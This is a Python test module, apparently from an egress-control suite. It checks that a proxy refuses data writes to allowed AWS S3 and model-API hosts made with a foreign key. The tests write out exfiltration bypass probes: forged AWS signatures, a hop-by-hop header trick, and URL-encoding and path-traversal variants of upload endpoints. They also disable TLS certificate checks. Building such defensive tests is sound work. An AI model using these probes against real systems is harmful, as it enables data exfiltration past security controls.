"""Attempts at allowed hosts of vendors with somebody else's key: the host is allowed, the account is not."""

from __future__ import annotations

import socket
import ssl

from km_core.attack.inside.base import TIMEOUT_S, Args, attempt, held
from km_core.attack.inside.parsers import GATE

FOREIGN_KEY = "AKIAKMATTACKFOREIGNX"
"""Has the form of an access key id; nobody's."""


def _asked(host: str, request: bytes) -> bytes:
    """Send a request over TLS by way of the gate and return the start of the answer."""
    # Whose certificate it is does not matter: what comes back is judged, and nothing true is sent.
    context = ssl._create_unverified_context()  # noqa: S323, SLF001 - there is no public name for it in 3.8
    with socket.create_connection(GATE, TIMEOUT_S) as sock:
        sock.settimeout(TIMEOUT_S * 2)
        sock.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
        answer = sock.recv(4096)
        if b" 200" not in answer.split(b"\r\n")[0]:
            return answer
        with context.wrap_socket(sock, server_hostname=host) as tls:
            tls.sendall(request)
            answer = tls.recv(4096)
            while b"\r\n\r\n" not in answer and (more := tls.recv(4096)):
                answer += more
            return answer


def _refused(what: str, host: str, request: bytes) -> None:
    answer = _asked(host, request)
    held(what, answer.split(b" ", 2)[1:2] == [b"403"], answer[:60].decode("latin-1"))


def foreign_cloud_key(args: Args) -> None:
    """Write to a bucket of somebody else's at an allowed AWS host: unsigned, and signed in every way."""
    host, token = args["cloud"], args["token"].decode()
    scope = f"{FOREIGN_KEY}/20260101/us-east-1/s3/aws4_request"
    signed = f"SignedHeaders=host, Signature={'0' * 64}"
    header = f"Authorization: AWS4-HMAC-SHA256 Credential={scope}, {signed}\r\n"
    query = (
        f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={scope}&X-Amz-Date=20260101T000000Z"
        f"&X-Amz-Expires=60&X-Amz-SignedHeaders=host&X-Amz-Signature={'0' * 64}"
    )
    for what, path, fields in (
        ("unsigned", "", ""),
        ("signed in a field", "", header),
        ("signed in the query", f"?{query}", ""),
        ("signed twice", "", header + header),
        ("its signature named as hop-by-hop", "", header + "Connection: authorization\r\n"),
        ("signed the older way", "", f"Authorization: AWS {FOREIGN_KEY}:x\r\n"),
        ("the older way in the query", f"?AWSAccessKeyId={FOREIGN_KEY}&Signature=x&Expires=1", ""),
        ("signed for every region", "", header.replace("HMAC-SHA256", "ECDSA-P256-SHA256")),
    ):
        raw = f"PUT /{token}/{token}{path} HTTP/1.1\r\nHost: {host}\r\n{fields}Content-Length: {len(token)}\r\n\r\n{token}"
        attempt(what, _refused, what, host, raw.encode())


def model_store(args: Args) -> None:
    """Keep data at an allowed model host, with a key of somebody else's."""
    host, token = args["model"], args["token"].decode()
    for path in (
        "/v1/files",
        "/v1/FILES",
        "/v1/%66iles",
        "/v1//files",
        "/v1/models/../files",
        "/v1/files;x",
        "/v1/files?beta=true",
        "/v1/uploads",
        "/v1/batches",
        "/v1/messages/batches",
        "/v1/vector_stores",
        "/v1/containers",
        "/v1/fine_tuning/jobs",
    ):
        for field in ("x-api-key", "Authorization"):
            raw = f"POST {path} HTTP/1.1\r\nHost: {host}\r\n{field}: {token}\r\n"
            raw += f"Content-Length: {len(token)}\r\n\r\n{token}"
            attempt(f"{path} {field}", _refused, path, host, raw.encode())
